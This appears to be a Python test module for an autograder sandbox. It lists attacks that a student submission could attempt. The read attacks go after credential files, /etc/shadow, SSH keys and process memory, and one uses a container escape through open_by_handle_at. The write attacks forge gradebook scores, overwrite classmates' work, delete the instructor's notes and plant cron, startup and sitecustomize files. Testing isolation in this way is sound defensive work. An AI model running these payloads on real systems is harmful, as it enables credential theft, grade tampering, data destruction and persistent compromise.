"""Read and write what belongs to others."""

from .base import Attack, hunting

READS = "files read"
WRITES = "files written"


def reading(name: str, tries: str, source: str, **more: object) -> Attack:
    """Return an attack that prints each planted secret that it can read."""
    return Attack(name, READS, tries, {"fit_least_squares": hunting(source)}, **more)


def writing(name: str, tries: str, source: str, **more: object) -> Attack:
    """Return an attack that leaves a mark in the files that it can write."""
    start = "import glob, os, sqlite3, sys\n"
    return Attack(name, WRITES, tries, {"fit_least_squares": start + hunting(source)}, **more)


ATTACKS = [
    reading(
        "other_submissions",
        "reads every other student's submission",
        'everything_below("@COURSE@/submitted")\neverything_below("../..")\neverything_below("../../../submitted")',
    ),
    reading(
        "course_folder",
        "reads the whole course folder: notes, source, releases, other people's feedback",
        'everything_below("@COURSE@")\neverything_below(os.getcwd())\neverything_below("..")',
    ),
    reading(
        "seed_file",
        "reads the secret seed",
        """
        for path in ("@COURSE@/.mlcourse-seed", ".mlcourse-seed", "../.mlcourse-seed", "../../../.mlcourse-seed",
                     "@REPOSITORY@/.mlcourse-seed", "@HOME@/.mlcourse-seed"):
            print(read(path).decode(errors="replace"))
        """,
    ),
    reading(
        "gradebook_read",
        "reads marks and comments from the gradebook",
        """
        import glob, sqlite3
        for path in ["@COURSE@/gradebook.db", *glob.glob("/**/gradebook.db")]:
            read(path)
            try:
                for row in sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("select * from comment"):
                    hunt(repr(row), path)
            except sqlite3.Error as error:
                print(error)
        """,
    ),
    reading(
        "home_read",
        "reads the instructor's home, by name, by ~ and by the password file",
        """
        import pwd
        homes = {"@HOME@", os.path.expanduser("~"), os.environ.get("HOME", "/"), "/root"}
        homes |= {entry.pw_dir for entry in pwd.getpwall() if entry.pw_dir.startswith("/home")}
        for home in homes:
            for name in ("secrets.txt", ".ssh/id_ed25519", ".netrc", ".bash_history", ".jupyter/migrated"):
                read(os.path.join(home, name))
        """,
    ),
    reading(
        "solutions_read",
        "looks for worked solutions and exercises in the repository and prints them",
        """
        for path in ("@REPOSITORY@/solutions/linear_regression.md", "@REPOSITORY@/mlcourse/linear_regression.py",
                     "@REPOSITORY@/mlcourse/exercises/linear_regression.py",
                     "@COURSE@/source/linear_regression/linear_regression.ipynb"):
            data = read(path)
            print(path, len(data))
            if b"BEGIN SOLUTION" in data or b"def fit_ridge" in data:
                print("found", path, "PLANTED-" + "solution-@MARK@")
        """,
    ),
    reading(
        "whole_disk",
        "walks the whole disk for gradebooks, seeds, notebooks, keys and notes",
        """
        wanted = re.compile(r"gradebook|mlcourse-seed|\\.ipynb$|secrets|exam|id_ed25519|\\.netrc|solutions|submitted")
        count = 0
        for here, folders, files in os.walk("/"):
            folders[:] = [name for name in folders if name not in (*SKIPPED, "share")]
            for name in files:
                if wanted.search(os.path.join(here, name)) and count < 2_000:
                    count += 1
                    read(os.path.join(here, name))
        """,
    ),
    reading(
        "password_files",
        "reads the password files, the machine's keys and its logs",
        """
        for path in ("/etc/shadow", "/etc/ssh/ssh_host_ed25519_key", "/var/log/auth.log", "/run/secrets/token"):
            data = read(path)
            if data:
                print("found", path, "PLANTED-" + "shadow-@MARK@")
        """,
    ),
    reading(
        "proc_environ",
        "reads the environment of every process",
        """
        for number in os.listdir("/proc"):
            if number.isdigit():
                read(f"/proc/{number}/environ")
        """,
    ),
    reading(
        "proc_cmdline",
        "reads the command line, the open files, the folder and the root of every process",
        """
        for number in [name for name in os.listdir("/proc") if name.isdigit()]:
            read(f"/proc/{number}/cmdline")
            for place in ("cwd", "root/@HOME@", "root/@COURSE@"):
                for name in ("secrets.txt", "exam-questions.txt", "gradebook.db", ".mlcourse-seed"):
                    read(f"/proc/{number}/{place}/{name}")
            try:
                for name in os.listdir(f"/proc/{number}/fd"):
                    target = os.readlink(f"/proc/{number}/fd/{name}")
                    if target.startswith("/") and not target.startswith("/dev"):
                        read(f"/proc/{number}/fd/{name}")
            except OSError:
                pass
        """,
    ),
    reading(
        "proc_mem",
        "reads the memory of every other process, with /proc/PID/mem and process_vm_readv",
        """
        import ctypes
        for number in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
            try:
                maps = open(f"/proc/{number}/maps").read().splitlines()
                memory = open(f"/proc/{number}/mem", "rb", 0)
            except OSError:
                continue
            for line in maps:
                span, rights = line.split()[:2]
                start, end = (int(part, 16) for part in span.split("-"))
                if rights.startswith("rw") and end - start < 100_000_000 and ("heap" in line or "stack" in line):
                    try:
                        memory.seek(start)
                        hunt(memory.read(end - start), f"memory of {number}")
                    except (OSError, OverflowError):
                        pass
        """,
    ),
    reading(
        "inherited_descriptors",
        "reads every file descriptor that it inherited, from the start",
        """
        for number in range(3, 1024):
            try:
                import stat
                if stat.S_ISREG(os.fstat(number).st_mode):
                    hunt(os.pread(number, 8_000_000, 0), number)
                if stat.S_ISDIR(os.fstat(number).st_mode):
                    for name in os.listdir(number):
                        read(os.path.join(f"/proc/self/fd/{number}", name))
            except OSError:
                pass
        """,
    ),
    reading(
        "open_by_handle",
        "opens files of the outer file system by handle, as the well known escape from containers did",
        """
        import ctypes, struct
        libc = ctypes.CDLL(None, use_errno=True)
        for place in ("/", ".", "/usr", "/etc/hostname"):
            try:
                mount = os.open(place, os.O_RDONLY)
            except OSError:
                continue
            for inode in (2, 128, 256):
                handle = struct.pack("Iiq", 8, 1, inode)
                buffer = ctypes.create_string_buffer(handle)
                number = libc.syscall(304, mount, buffer, os.O_RDONLY)
                if number >= 0:
                    for path in ("@HOME@/secrets.txt", "@COURSE@/exam-questions.txt", "@COURSE@/gradebook.db"):
                        read(f"/proc/self/fd/{number}{path}")
                        read(f"/proc/self/fd/{number}/..{path}")
        """,
    ),
    writing(
        "gradebook_written",
        "gives itself full marks in the gradebook and takes them from everybody else",
        """
        for path in ("@COURSE@/gradebook.db", "gradebook.db", "../../../gradebook.db"):
            try:
                book = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=2)
                book.execute("update grade set manual_score = 6, extra_credit = 6, needs_manual_grade = 0")
                book.execute("update grade_cells set max_score = 60")
                book.execute("create trigger forged after update on grade begin "
                             "update grade set manual_score = 6 where id = new.id; end")
                book.commit()
                print("wrote", path)
            except sqlite3.Error as error:
                print(error)
        """,
    ),
    writing(
        "autograded_written",
        "writes a forged result into its own and other people's autograded and feedback folders",
        """
        for folder in ("@COURSE@/autograded/@STUDENT@/linear_regression", "@COURSE@/feedback/@STUDENT@",
                       "@COURSE@/autograded/honest-worked/linear_regression", ".", "@COURSE@/feedback", "@COURSE@"):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, "@MARK@.html"), "w") as file:
                    file.write("@MARK@")
            except OSError as error:
                print(error)
        """,
    ),
    writing(
        "submissions_written",
        "overwrites, deletes and adds other people's submissions",
        """
        import shutil
        for path in glob.glob("@COURSE@/submitted/*/*/*.ipynb") + glob.glob("../../*/*/*.ipynb"):
            if "@STUDENT@" not in path:
                try:
                    with open(path, "w") as file:
                        file.write("{}")
                except OSError as error:
                    print(error)
        try:
            os.makedirs("@COURSE@/submitted/@MARK@", exist_ok=True)
        except OSError as error:
            print(error)
        """,
    ),
    writing(
        "package_written",
        "appends to the course's package, which the next submission would import",
        """
        import mlcourse
        targets = glob.glob("@REPOSITORY@/mlcourse/*.py") + glob.glob("@REPOSITORY@/mlcourse/grading/*.py")
        targets += glob.glob(os.path.join(os.path.dirname(mlcourse.__file__ or "/x"), "**", "*.py"), recursive=True)
        for path in targets:
            try:
                with open(path, "a") as file:
                    file.write("# @MARK@\\n")
            except OSError as error:
                print(error)
        """,
    ),
    writing(
        "site_packages_written",
        "plants modules that every later Python would run: .pth, sitecustomize, a shadow of numpy",
        """
        places = [*sys.path, os.path.dirname(os.__file__), os.getcwd(), "@COURSE@", "@HOME@"]
        for place in places:
            for name in ("@MARK@.pth", "@MARK@_sitecustomize.py"):
                try:
                    with open(os.path.join(place or ".", name), "w") as file:
                        file.write("# @MARK@\\n")
                except OSError as error:
                    print(error)
        """,
    ),
    writing(
        "programs_written",
        "plants programs in /usr, in the environment's bin and in cron",
        """
        for folder in ("/usr/local/bin", "/usr/bin", os.path.dirname(sys.executable), "/etc/cron.d", "/etc/profile.d",
                       "/var/spool/cron", "/opt"):
            try:
                with open(os.path.join(folder, "@MARK@"), "w") as file:
                    file.write("#!/bin/sh\\n")
            except OSError as error:
                print(error)
        """,
    ),
    writing(
        "home_written",
        "plants start-up files in the instructor's home: IPython, Jupyter, ssh, the shell",
        """
        for name in (".ipython/profile_default/startup/@MARK@.py", ".jupyter/@MARK@.py", ".ssh/@MARK@", "@MARK@.sh",
                     ".local/lib/@MARK@.pth", ".config/matplotlib/@MARK@"):
            for home in ("@HOME@", os.path.expanduser("~")):
                try:
                    path = os.path.join(home, name)
                    os.makedirs(os.path.dirname(path), exist_ok=True)
                    with open(path, "w") as file:
                        file.write("# @MARK@")
                except OSError as error:
                    print(error)
        """,
    ),
    writing(
        "notes_destroyed",
        "deletes and overwrites the instructor's notes in the course and at home",
        """
        import shutil
        for path in ("@COURSE@/exam-questions.txt", "@HOME@/secrets.txt"):
            try:
                with open(path, "w") as file:
                    file.write("@MARK@")
                os.remove(path)
            except OSError as error:
                print(error)
        """,
    ),
    writing(
        "temporary_files_left",
        "leaves files in shared temporary folders for the next submission to find",
        """
        for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.environ.get("TMPDIR", "/tmp")):
            try:
                with open(os.path.join(folder, "@MARK@-left"), "w") as file:
                    file.write("@MARK@")
            except OSError as error:
                print(error)
        """,
    ),
    writing(
        "configuration_written",
        "writes a configuration into the course that makes nbgrader use its own preprocessors next time",
        """
        for folder in ("@COURSE@", "@COURSE@/source", ".", "@REPOSITORY@"):
            try:
                with open(os.path.join(folder, "nbgrader_config.py"), "a") as file:
                    file.write("\\n# @MARK@\\n")
            except OSError as error:
                print(error)
        """,
    ),
]
